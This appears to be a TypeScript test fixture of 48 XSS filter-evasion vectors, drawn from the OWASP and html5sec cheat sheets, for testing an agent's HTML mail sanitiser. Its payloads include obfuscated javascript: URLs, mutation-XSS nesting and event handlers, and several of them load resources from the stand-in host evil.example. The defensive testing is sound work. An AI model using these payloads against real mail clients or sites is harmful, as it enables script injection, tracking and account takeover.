// Known ways to run script, navigate or phone home from HTML mail (OWASP XSS filter evasion
// cheat sheet, html5sec.org, mutation XSS). Every payload that could run sets `__pwned` in
// its own window and in the agent's page and raises a dialog; every remote fetch goes to
// evil.example, so any of them happening is visible to the test.

/** Script a vector tries to run: marks its window and the top page, and raises a dialog. */
const probe = (n: number) => `window.__pwned=${n};try{top.__pwned=${n}}catch(e){};alert(${n})`;

export interface XssVector {
  html: string;
  /** Text of an element the test clicks (links, buttons, handlers on click). */
  click?: string;
}

export const EVIL_HOST = 'evil.example';

export const xssVectors: XssVector[] = [
  { html: `<script>${probe(1)}</script>` },
  { html: `<img src=x onerror="${probe(2)}">` },
  { html: `<svg onload="${probe(3)}"></svg>` },
  { html: `<body onload="${probe(4)}">` },
  { html: `<iframe src="javascript:${probe(5)}"></iframe>` },
  { html: `<iframe srcdoc="&lt;script&gt;${probe(6)}&lt;/script&gt;"></iframe>` },
  { html: `<a href="javascript:${probe(7)}">vector-7</a>`, click: 'vector-7' },
  { html: `<a href="JaVaScRiPt:${probe(8)}">vector-8</a>`, click: 'vector-8' },
  { html: `<a href="&#106;&#97;vascript:${probe(9)}">vector-9</a>`, click: 'vector-9' },
  { html: `<a href=" &#14; javascript:${probe(10)}">vector-10</a>`, click: 'vector-10' },
  {
    html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=">vector-11</a>',
    click: 'vector-11',
  },
  { html: `<meta http-equiv="refresh" content="0;url=javascript:${probe(12)}">` },
  { html: `<meta http-equiv="refresh" content="1;url=https://${EVIL_HOST}/refresh">` },
  { html: `<base href="https://${EVIL_HOST}/"><a href="relative/path">vector-14</a>`, click: 'vector-14' },
  { html: `<div style="background-image:url(javascript:${probe(15)})">vector-15</div>` },
  { html: `<div style="width:expression(${probe(16)})">vector-16</div>` },
  { html: `<object data="javascript:${probe(17)}"></object>` },
  { html: `<embed src="javascript:${probe(18)}">` },
  { html: `<form action="javascript:${probe(19)}"><button>vector-19</button></form>`, click: 'vector-19' },
  { html: `<input autofocus onfocus="${probe(20)}">` },
  { html: `<details open ontoggle="${probe(21)}"><summary>vector-21</summary></details>` },
  { html: `<video><source onerror="${probe(22)}"></video>` },
  { html: `<audio src=x onerror="${probe(23)}"></audio>` },
  { html: `<marquee onstart="${probe(24)}">vector-24</marquee>` },
  {
    html: `<math><mtext><table><mglyph><style><img src=x onerror="${probe(25)}"></style></mglyph></table></mtext></math>`,
  },
  { html: `<noscript><p title="</noscript><img src=x onerror=${probe(26)}>"></noscript>` },
  { html: `<svg><script>${probe(27)}</script></svg>` },
  { html: `<svg><a xlink:href="javascript:${probe(28)}"><text x="0" y="20">vector-28</text></a></svg>` },
  { html: `<svg><animate onbegin="${probe(29)}" attributeName="x" dur="1s"></animate></svg>` },
  { html: `<img src="https://${EVIL_HOST}/track.gif" alt="tracking pixel">` },
  { html: `<link rel="stylesheet" href="https://${EVIL_HOST}/style.css">` },
  {
    html: `<style>@import url(https://${EVIL_HOST}/import.css); body{background:url(https://${EVIL_HOST}/bg.png)}</style>`,
  },
  { html: `<img srcset="https://${EVIL_HOST}/srcset.png 1x">` },
  { html: `<table background="https://${EVIL_HOST}/table.gif"><tr><td>vector-34</td></tr></table>` },
  { html: `<x onclick="${probe(35)}">vector-35</x>`, click: 'vector-35' },
  { html: `<scr<script>ipt>${probe(36)}</scr</script>ipt>` },
  { html: `"><img src=x onerror=${probe(37)}>` },
  { html: `<textarea autofocus onfocus="${probe(38)}"></textarea>` },
  { html: `<a href="vbscript:msgbox(39)">vector-39</a>`, click: 'vector-39' },
  { html: `<div style="behavior:url(https://${EVIL_HOST}/x.htc)">vector-40</div>` },
  { html: `<object data="https://${EVIL_HOST}/object.swf"></object>` },
  { html: `<iframe src="https://${EVIL_HOST}/frame"></iframe>` },
  { html: `<style>*{background-image:url("javascript:${probe(43)}")}</style>` },
  { html: `<a href="https://${EVIL_HOST}/ping-target" ping="https://${EVIL_HOST}/ping">vector-44</a>` },
  { html: `<img src="x" onload="${probe(45)}" onmouseover="${probe(45)}">` },
  { html: `<div onmouseover="${probe(46)}">vector-46</div>`, click: 'vector-46' },
  { html: `<video poster="https://${EVIL_HOST}/poster.png"></video>` },
  { html: `<isindex action="javascript:${probe(48)}" type="image">` },
];

export function vectorsHtml(): string {
  return xssVectors.map((vector) => `<div>${vector.html}</div>`).join('\n');
}
